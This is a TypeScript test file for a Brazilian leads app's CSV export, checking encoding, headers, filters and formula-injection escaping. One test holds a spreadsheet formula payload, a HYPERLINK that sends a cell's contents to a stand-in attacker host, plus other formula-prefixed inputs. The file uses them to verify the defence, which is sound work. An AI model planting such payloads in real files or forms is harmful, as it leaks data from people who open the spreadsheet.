import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { type InboxApp, openInboxApp } from './testing/inbox-app.ts'

let inboxApp: InboxApp
beforeAll(async () => {
  inboxApp = await openInboxApp()
})
beforeEach(() => inboxApp.clear())
afterAll(() => inboxApp.close())

const file = async (query = '') => {
  const answer = await inboxApp.get(`/team/leads.csv${query}`)
  const [heading = '', ...lines] = answer.body.split('\r\n')
  return { answer, heading, lines: lines.filter(Boolean) }
}

test('the file has a UTF-8 mark and semicolons, as Brazilian spreadsheets expect', async () => {
  await inboxApp.send({ name: 'João Açaí', status: 'em_contato', answers: { segment: 'kids' } })
  const { answer, heading, lines } = await file()
  expect(answer.headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    // In São Paulo it is still the previous day.
    'content-disposition': 'attachment; filename="leads-2026-11-15.csv"',
    'cache-control': 'no-store',
  })
  expect(answer.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
  expect(heading).toMatch(/^\uFEFF"Recebido em";"Tipo";"Situação";"Nome";"Email";"Telefone"/)
  expect(lines[0]).toMatch(
    /^"\d\d\/\d\d\/\d{4} às? \d\d:\d\d";"Contato";"Em contato";"João Açaí";"rita@example.com";/,
  )
  expect(lines[0]).toContain('"Infantil"')
})

test('every line has as many cells as the heading, for both kinds of form', async () => {
  await inboxApp.send({
    kind: 'interview',
    answers: { dores: ['filas', 'fraudes'], acao1: 'Ligar' },
  })
  await inboxApp.send({ answers: { region: 'Sul' }, daysAgo: 1 })
  const { heading, lines } = await file()
  const count = (line = '') => line.split('";"').length
  expect(lines.map(count)).toEqual([count(heading), count(heading)])
  expect(lines[0]).toContain('"Filas no check-in, Fraudes ou ingressos falsos"')
})

test('a formula in an answer is exported as text', async () => {
  const evil = '=HYPERLINK("http://evil.example?"&A1,"Clique")'
  await inboxApp.send({
    name: evil,
    company: '@SUM(1)',
    phone: '+55 51 99876-5432',
    answers: { region: '-2+3', producerName: evil, whereDidYouFind: '\t=1' },
  })
  const { lines } = await file()
  expect(lines[0]).toContain(`"'=HYPERLINK(""http://evil.example?""&A1,""Clique"")"`)
  for (const cell of lines[0]?.slice(1, -1).split('";"') ?? [])
    expect(cell).not.toMatch(/^[=+\-@\t]/)
})

test('the export has all leads that match the filters, each once', async () => {
  await inboxApp.database.pool.query(
    `insert into leads (id, kind, status, name, email, phone, company, answers, search_text, created_at)
     select gen_random_uuid(), 'contact', case when n % 2 = 0 then 'ganho' else 'novo' end, 'L' || n, 'e', 'p', 'c',
            '{}', ' palco', app_now() - (n / 3) * interval '1 microsecond' from generate_series(1, 901) n`,
  )
  await inboxApp.send({ name: 'Outro', status: 'ganho' })
  const { lines } = await file('?status=ganho&q=palco')
  const names = lines.map((line) => line.split('";"')[3])
  expect(names.filter((name) => name?.startsWith('L'))).toHaveLength(450)
  expect(new Set(names).size).toBe(names.length)
})

test.each(['page=2', 'status=x', 'columns=all'])('?%s is refused', async (query) => {
  const { answer } = await file(`?${query}`)
  expect([answer.statusCode, answer.json().code]).toEqual([400, 'BAD_INPUT'])
})
